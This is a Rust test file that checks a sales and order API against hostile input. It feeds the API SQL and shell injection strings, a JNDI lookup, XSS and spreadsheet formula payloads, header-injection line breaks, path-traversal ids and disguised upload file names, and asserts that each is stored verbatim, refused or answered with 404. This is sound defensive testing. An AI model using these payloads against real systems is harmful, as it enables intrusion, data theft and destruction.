//! Texts that mean something to somebody else's program: stored and given back as they are, or
//! refused; never carried out.

use super::{is_refused, stored};
use crate::support::{id, note_pdf, on_every_store, order_of};
use serde_json::{Value, json};

/// One line each: for SQL, shells, templates, HTML, spreadsheets, formats, paths.
const LINES: &[&str] = &[
    "Robert'); DROP TABLE orders;--",
    "' OR '1'='1",
    "\"; SELECT pg_sleep(9);--",
    "1; ATTACH DATABASE 'x' AS y",
    "$(reboot)",
    "`id`",
    "| cat /etc/passwd",
    "{{7*7}}",
    "${jndi:ldap://x.example/a}",
    "<%= 7*7 %>",
    "{order_number}",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "&lt;b&gt;",
    "=HYPERLINK(\"http://x.example\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "%s%n%x",
    "%00",
    "../../etc/passwd",
    "C:\\Windows\\system32",
    "\\u0000",
    "null",
    "NaN",
    "true",
    "1e400",
    "{\"a\": 1}",
    "a,b;c",
    "O'Brien & Söhne \"GmbH\" <x@y>",
];

#[test]
fn a_text_is_given_back_as_it_was_said_and_found_by_itself() {
    on_every_store(|app| {
        let sales = app.company().sales();
        for text in LINES {
            let customer = sales.post("/v1/customers", json!({"name": text, "contact_name": text})).created();
            let again = sales.get(&format!("/v1/customers/{}", id(&customer))).ok();
            assert_eq!([&again["name"], &again["contact_name"]], [text, text]);
            let escaped: String = text.bytes().map(|byte| format!("%{byte:02X}")).collect();
            let found = sales.get(&format!("/v1/customers?q={escaped}&limit=200")).ok()["data"].clone();
            let names: Vec<&str> = found.as_array().expect("a list has data").iter().filter_map(|row| row["name"].as_str()).collect();
            assert!(names.contains(text) && names.iter().all(|name| name.to_lowercase().contains(&text.to_lowercase())), "{text}: {names:?}");
        }
        assert_eq!(app.count("customers"), i64::try_from(LINES.len()).expect("few"));
    });
}

#[test]
fn an_order_keeps_every_text_of_it() {
    on_every_store(|app| {
        let sales = app.company().sales();
        for text in LINES {
            let mut said = order_of(json!([{"name": text, "specification": text, "unit": "set", "quantity": "1", "unit_price": "1"}]));
            said["delivery"]["instructions"] = json!(text);
            said["delivery"]["address"]["street"] = json!(text);
            said["contract_number"] = json!(text);
            said["tags"] = json!([text]);
            said["metadata"] = json!({*text: {"text": text}});
            let made = sales.post("/v1/orders", said.clone()).created();
            let order = sales.get(&format!("/v1/orders/{}", id(&made))).ok();
            let shown = |pointer: &str| order.pointer(pointer).cloned().unwrap_or_default();
            for pointer in
                ["/lines/0/name", "/lines/0/specification", "/delivery/instructions", "/delivery/address/street", "/contract_number", "/tags/0"]
            {
                assert_eq!(shown(pointer), *text, "{pointer}");
            }
            assert_eq!(order["metadata"], said["metadata"]);
        }
    });
}

#[test]
fn a_line_break_gets_into_no_line_and_no_header() {
    // BEHAVIOUR 6
    on_every_store(|app| {
        let (sales, before) = (app.company().sales(), stored(app));
        for text in ["a\r\nBcc: x@y.example", "a\nb", "a\rb", "\u{85}", "a\u{2028}b", "a\u{b}b", "a\u{7f}b", "a\u{0}b"] {
            is_refused(&sales.post("/v1/customers", json!({"name": text})));
            is_refused(&sales.post("/v1/customers", json!({"name": "Acme", "email": format!("{text}@x.example")})));
            let mut order = order_of(json!([{"name": "Desk", "quantity": "1", "unit_price": "1"}]));
            order["channel_ref"] = json!(text);
            is_refused(&sales.post("/v1/orders", order));
        }
        assert_eq!(stored(app), before);
    });
}

#[test]
fn an_id_or_a_name_of_a_file_leads_nowhere_else() {
    on_every_store(|app| {
        let admin = app.company().order_admin();
        let ways = [
            "..%2f..%2fetc%2fpasswd",
            "%2e%2e",
            "..%5c..",
            "fil_%00",
            "fil_..%2f..%2fsecret",
            "ord_'%20OR%20'1'='1",
            "%27",
            "%25",
            "*",
            "null",
            "-1",
            "%ff",
        ];
        for way in ways {
            for place in ["orders", "files", "tasks", "shipments", "exceptions", "customers", "products", "invoices", "warehouses", "approvals"] {
                let answer = admin.get(&format!("/v1/{place}/{way}"));
                assert_eq!(answer.status, 404, "{} answered {}", answer.asked, answer.text);
                answer.is_a_problem();
            }
        }
        for way in ["/../etc/passwd", "/docs/../../etc/passwd", "/docs/..%2f..%2fetc%2fpasswd", "/problems/..%2f..%2fsecret", "/openapi.json/../x"] {
            let answer = app.anyone.get(way);
            assert!(answer.status == 404 && !answer.text.contains("root:"), "{way}: {}", answer.text);
        }
    });
}

#[test]
fn an_uploaded_file_keeps_the_plain_part_of_its_name() {
    // BEHAVIOUR 9
    on_every_store(|app| {
        let company = app.company();
        company.with_paper("10");
        let order = company.confirmed(json!([{"sku": "PAPER", "quantity": "1"}]));
        let path = format!("/v1/tasks/{}/evidence", id(&company.task(&order, "warehouse")));
        let upload = |name: &str| company.warehouse().upload(&path, "goods_issue_note", name, &note_pdf());
        for (given, kept) in
            [("../../etc/note.pdf", "note.pdf"), ("C:\\x\\note.pdf", "note.pdf"), ("=cmd.pdf", "=cmd.pdf"), ("..note..pdf", "..note..pdf")]
        {
            let task = upload(given).is(201).body;
            let names: Vec<&Value> = task["evidence"].as_array().expect("evidence").iter().map(|file| &file["file_name"]).collect();
            assert!(names.contains(&&json!(kept)), "{given}: {names:?}");
        }
        let before = stored(app);
        for name in ["photo\u{202e}gpj.pdf", "\u{200b}", "..", "note.exe", "note.pdf.exe", "note.pdf/", &format!("{}.pdf", "x".repeat(300))] {
            is_refused(&upload(name));
        }
        assert_eq!(stored(app), before);
    });
}
